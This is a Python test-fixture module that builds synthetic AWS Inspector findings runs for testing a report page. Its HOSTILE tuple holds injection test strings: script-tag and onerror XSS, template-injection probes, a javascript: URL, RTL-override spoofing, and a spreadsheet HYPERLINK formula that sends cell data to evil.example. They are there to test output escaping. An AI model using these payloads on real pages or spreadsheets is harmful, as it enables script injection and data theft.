"""Runs that the page is tested and shown with: analyses made by the analysis' own code, and what stands beside them."""

import random
from collections.abc import Mapping
from dataclasses import replace
from datetime import date, timedelta
from typing import Any

from findings_analysis.assessment.coverage import AccountScanning, Coverage, TypeCoverage
from findings_analysis.comparison.fingerprints import DAY_MS
from findings_exporter.model.taxonomy import LISTED_KINDS, SCAN_TYPES
from tests.builders.daily_runs import ACCOUNT, OTHER_ACCOUNT, TODAY, arn, finding
from tests.unit.analysis.comparison.test_run_fingerprints import NOW
from tests.unit.analysis.output.test_document import ALL_ON, ON, analysis, check

REPOSITORIES = ("shop/cart", "shop/checkout", "shop/search", "platform/gateway", "platform/auth", "data/ingest", "data/reports")
PACKAGES = ("openssl", "curl", "glibc", "zlib", "libxml2", "python3.12", "log4j-core", "jackson-databind", "busybox", "sqlite")
FAULTS = (
    "buffer overflow in the parser",
    "use after free",
    "request smuggling",
    "path traversal",
    "denial of service by a long header",
)
SEVERITY_WEIGHTS = {"CRITICAL": 2, "HIGH": 18, "MEDIUM": 52, "LOW": 24, "UNTRIAGED": 4}
COVERED = Coverage(
    ACCOUNT,
    {
        ACCOUNT: AccountScanning("on", ALL_ON, scanned=231, not_scanned=14),
        OTHER_ACCOUNT: AccountScanning("on", ALL_ON, scanned=88, not_scanned=3),
    },
    319,
    17,
    {
        "AWS_EC2_INSTANCE": TypeCoverage(41, 6, {"UNMANAGED_EC2_INSTANCE": 5, "STALE_INVENTORY": 1}),
        "AWS_ECR_CONTAINER_IMAGE": TypeCoverage(196, 8, {"IMAGE_SIZE_EXCEEDED": 3, "UNSUPPORTED_OS": 5}),
        "AWS_LAMBDA_FUNCTION": TypeCoverage(82, 3, {"UNSUPPORTED_RUNTIME": 3}),
    },
)
DEACTIVATED = replace(
    COVERED,
    accounts={
        ACCOUNT: COVERED.accounts[ACCOUNT],
        OTHER_ACCOUNT: AccountScanning(
            "off", dict.fromkeys(SCAN_TYPES, "off"), why="DISABLED: Inspector was disabled by the account."
        ),
    },
)
HOSTILE = (
    "<script>document.title='owned'</script>",
    "</script><img src=x onerror=\"document.title='owned'\">",
    "{{ 7 * 7 }} {% raw %} ${7*7} <!--",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "\u202egnp.exe \u2067\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "👩‍👩‍👧‍👦🔥" * 20,
    "W" * 10_000,
    "z\u0300\u0301\u0302" * 40,
    'javascript:alert(1)" autofocus onfocus="alert(1)',
    "half a pair \ud83d and a NUL \x00 and a line\u2028end",
)


def rows(count: int, seed: int, account: str = ACCOUNT) -> list[dict[str, Any]]:
    """Findings as a busy account has them."""
    chance = random.Random(seed)
    made = []
    for number in range(count):
        package, repository = chance.choice(PACKAGES), chance.choice(REPOSITORIES)
        vulnerability = f"CVE-202{chance.randint(2, 6)}-{chance.randint(1000, 48000)}"
        (severity,) = chance.choices(list(SEVERITY_WEIGHTS), list(SEVERITY_WEIGHTS.values()))
        made.append(
            finding(
                f"{account}-{seed}-{number}",
                account_id=account,
                severity=severity,
                vulnerability_id=vulnerability,
                title=f"{vulnerability} - {package}: {chance.choice(FAULTS)}",
                package_names=[package],
                resource_id=f"arn:aws:ecr:eu-central-1:{account}:repository/{repository}/sha256:{number % 40:0>64}",
                resource_name=repository,
                repository_name=repository,
                first_observed_at=(TODAY - min(int(chance.expovariate(1 / 30)), 400)) * DAY_MS + 1,
                fix_available=chance.choice(("YES", "YES", "PARTIAL", "NO")),
                exploit_available="YES" if chance.random() < 0.04 else "NO",
                epss_score=round(chance.random() ** 6, 4),
            )
        )
    return made


def ordinary(findings: int = 400) -> dict[str, Any]:
    """A run with something of most kinds."""
    stay, no_longer_open, new = rows(findings, 1), rows(findings // 8, 2), rows(findings // 10, 3)
    other = rows(findings // 4, 4, OTHER_ACCOUNT)
    rebuilt = [each | {"finding_arn": arn(f"rebuilt-{place}")} for place, each in enumerate(stay[:12])]
    worse = [each | {"severity": "CRITICAL", "exploit_available": "YES"} for each in stay[12:16]]
    return analysis(
        [*rebuilt, *worse, *stay[16:], *new, *other, *(each | {"status": "CLOSED"} for each in no_longer_open[:9])],
        [*stay, *no_longer_open, *other],
        coverage=COVERED,
    )


def deactivated() -> dict[str, Any]:
    """A run in which one account's scanning is off: half the findings are missing, and their status is unknown."""
    stay, uncertain = rows(60, 5), rows(90, 6, OTHER_ACCOUNT)
    return analysis(stay, [*stay, *uncertain], coverage=DEACTIVATED, filter_criteria={})


def first() -> dict[str, Any]:
    return analysis(rows(180, 7), coverage=COVERED, filter_criteria={})


def no_changes() -> dict[str, Any]:
    """Nothing is open, nothing changed, and scanning is active."""
    return analysis([], [], coverage=ON, filter_criteria={}, key=None)


def unknown() -> dict[str, Any]:
    why = "the account status could not be read: AccessDeniedException"
    unread = Coverage(
        ACCOUNT,
        {ACCOUNT: AccountScanning("unknown", why=why)},
        notes=(f"Whether Inspector scans is unknown in the account {ACCOUNT} ({why}).",),
    )
    return analysis([], rows(60, 8), coverage=unread, filter_criteria={}, key=None)


def listed(number: int, text: str | None = None, **values: Any) -> dict[str, Any]:
    """One changed finding as an analysis lists it."""
    chance = random.Random(number)
    package, vulnerability = chance.choice(PACKAGES), f"CVE-2026-{10_000 + number}"
    (severity,) = chance.choices(list(SEVERITY_WEIGHTS), list(SEVERITY_WEIGHTS.values()))
    days = chance.randint(0, 300)
    return {
        "finding_arn": arn(f"listed-{number}"),
        "previous_finding_arn": None,
        "title": text or f"{vulnerability} - {package}: {chance.choice(FAULTS)}",
        "vulnerability_id": text or vulnerability,
        "packages": [text or package],
        "account_id": chance.choice((ACCOUNT, OTHER_ACCOUNT)),
        "region": "eu-central-1",
        "resource_type": "AWS_ECR_CONTAINER_IMAGE",
        "resource": text or chance.choice(REPOSITORIES),
        "resource_id": f"arn:aws:ecr:eu-central-1:{ACCOUNT}:repository/listed/sha256:{number:064x}",
        "severity": severity,
        "previous_severity": None,
        "exploit_available": chance.random() < 0.05,
        "fix_available": chance.choice(("YES", "PARTIAL", "NO", None)),
        "first_seen": (date(2026, 11, 23) - timedelta(days=days)).isoformat(),
        "days_open": days,
    } | values


def with_listed(made: dict[str, Any], lists: Mapping[str, list[dict[str, Any]]]) -> dict[str, Any]:
    """An analysis that lists other findings, counted as they are listed."""
    changes = made["changes"]
    kinds = {kind: list(lists.get(kind, [])) for kind in LISTED_KINDS}
    by_severity = {
        kind: {severity: sum(each["severity"] == severity for each in found) for severity in {each["severity"] for each in found}}
        for kind, found in kinds.items()
    }
    counts = changes["counts"] | {kind: len(found) for kind, found in kinds.items()}
    counts["appeared"] = sum(counts[kind] for kind in ("new", "additional_resource", "reopened", "unsuppressed"))
    counts["no_longer_open"] = sum(
        counts[kind] for kind in ("closed", "suppressed", "resource_removed", "no_longer_reported", "one_fewer_resource")
    )
    most = max(map(len, kinds.values()), default=0)
    result = made | {"changes": changes | {"counts": counts, "by_severity": by_severity, "lists": kinds, "listed_at_most": most}}
    check(result)
    return result


def busy(count: int = 5_000) -> dict[str, Any]:
    """A run with thousands of listed changes."""
    half = count // 2
    return with_listed(
        ordinary(),
        {
            "new": [listed(number) for number in range(half)],
            "resource_removed": [listed(number) for number in range(half, count)],
        },
    )


def hostile() -> dict[str, Any]:
    """A run whose every text is hostile."""
    current = [
        finding(
            f"h{place}",
            title=text,
            vulnerability_id=text,
            package_names=[text],
            resource_name=text,
            resource_id=text,
            account_id=text,
            severity="CRITICAL",
        )
        for place, text in enumerate(HOSTILE[:-1])
    ]
    made = analysis(current, [], coverage=ON, filter_criteria={}, name=HOSTILE[0])
    made = with_listed(made, {"new": [listed(place, text, account_id=text) for place, text in enumerate(HOSTILE)]})
    made["sentences"] = [*made["sentences"], *HOSTILE]
    made["priorities"] = [each | {"why": HOSTILE[1]} for each in made["priorities"]]
    return made


def trend(made: Mapping[str, Any], runs: int = 30) -> list[dict[str, Any]]:
    """The history lines of runs before this one; two of them without numbers."""
    chance, last = random.Random(9), made["statistics"]["by_severity"]
    result: list[dict[str, Any]] = []
    for before in reversed(range(runs)):
        counts = {
            severity: max(round(count * (1 + before / 40) + chance.randint(-2, 2) * (1 + count / 50)), 0)
            for severity, count in last.items()
        }
        failed = before in {6, 19}
        result.append(
            {
                "started_at": (NOW - timedelta(days=before)).isoformat(),
                "outcome": "FAILED" if failed else "SUCCEEDED",
                "by_severity": None if failed else counts if before else dict(last),
                "is_uncertain": not before and bool(made["coverage_status"]["deactivated"]),
            }
        )
    return result


def facts(**values: Any) -> dict[str, Any]:
    console = "https://eu-central-1.console.aws.amazon.com"
    return {
        "deployment": {"account": ACCOUNT, "region": "eu-central-1", "stack": "findings-exporter"},
        "links": {
            "report": f"{console}/s3/object/findings?prefix=reports/r.json",
            "analysis": f"{console}/s3/object/findings?prefix=analyses/analysis.json",
            "parquet": f"{console}/s3/object/findings?prefix=findings/run-1.parquet",
            "execution": f"{console}/states/home#/v2/executions/details/run-1",
        },
        "duration_seconds": 742,
        "time_zone": "Europe/Paris",
    } | values
